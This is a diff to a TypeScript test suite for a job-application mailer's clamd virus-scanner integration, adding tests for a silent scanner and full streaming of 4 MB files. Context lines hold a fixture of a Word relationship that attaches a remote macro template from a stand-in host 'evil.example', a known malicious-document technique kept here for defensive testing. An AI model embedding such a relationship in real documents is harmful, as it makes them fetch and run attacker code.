@@ -12,6 +12,7 @@ const MB = 1024 * 1024;
 const TYPES = '<Types><Override PartName="/word/document.xml"/></Types>';
 const DOCX = { "[Content_Types].xml": TYPES, "word/document.xml": "<w:document/>" };
 const ODT = { mimetype: "application/vnd.oasis.opendocument.text", "content.xml": "<office/>" };
+const SILENT = "";
 const EXTERNAL =
   '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" ' +
   'Target="http://evil.example/t.dotm" TargetMode="External"/>';
@@ -126,19 +127,20 @@ describe("the virus scanner", () => {
   let temp: Awaited<ReturnType<typeof makeFolder>>;
   let scanner: net.Server;
   let scanned: Buffer;
+  /** `null` for hanging up. */
   let answer: string | null;
   let guarded: RunningMailer;
 
   beforeEach(async () => {
     temp = await makeFolder();
     const CLAMD_SOCKET = path.join(temp.folder, "clamd");
-    scanner = net.createServer((socket) => {
+    scanner = net.createServer({ allowHalfOpen: true }, (socket) => {
       const chunks: Buffer[] = [];
       socket.on("data", (chunk) => {
         chunks.push(chunk);
         scanned = Buffer.concat(chunks);
         if (answer === null) socket.destroy();
-        else if (scanned.subarray(-4).equals(Buffer.alloc(4))) socket.end(`stream: ${answer}\0`);
+        else if (answer !== SILENT && scanned.subarray(-4).equals(Buffer.alloc(4))) socket.end(`stream: ${answer}\0`);
       });
       socket.on("error", () => undefined);
     });
@@ -177,6 +179,23 @@ describe("the virus scanner", () => {
     expect((await apply("cv.pdf", "%PDF-1.7", guarded)).status).toBe(201);
     expect(await subjectOfMail()).toBe("[not scanned] New application from Jan Li");
     expect(eventsOf(guarded.log).map(({ event }) => event)).toContain("notScanned");
+  });
+
+  test("gets a file of 4 MB whole", async () => {
+    answer = "Eicar-Test-Signature FOUND";
+    const content = Buffer.concat([Buffer.from("%PDF-1.7"), Buffer.alloc(4 * MB - 8, 7)]);
+    expect((await apply("cv.pdf", content, guarded)).status).toBe(422);
+    const frames: Buffer[] = [];
+    for (let at = "zINSTREAM\0".length; scanned.readUInt32BE(at) > 0; at += 4 + scanned.readUInt32BE(at)) {
+      frames.push(scanned.subarray(at + 4, at + 4 + scanned.readUInt32BE(at)));
+    }
+    expect(Buffer.concat(frames).equals(content)).toBe(true);
+  });
+
+  test("loses no application when it is silent for 8 s", async () => {
+    answer = SILENT;
+    expect((await apply("cv.pdf", "%PDF-1.7", guarded)).status).toBe(201);
+    expect(await subjectOfMail()).toBe("[not scanned] New application from Jan Li");
   });
 
   test("loses no application when it is not there", async () => {
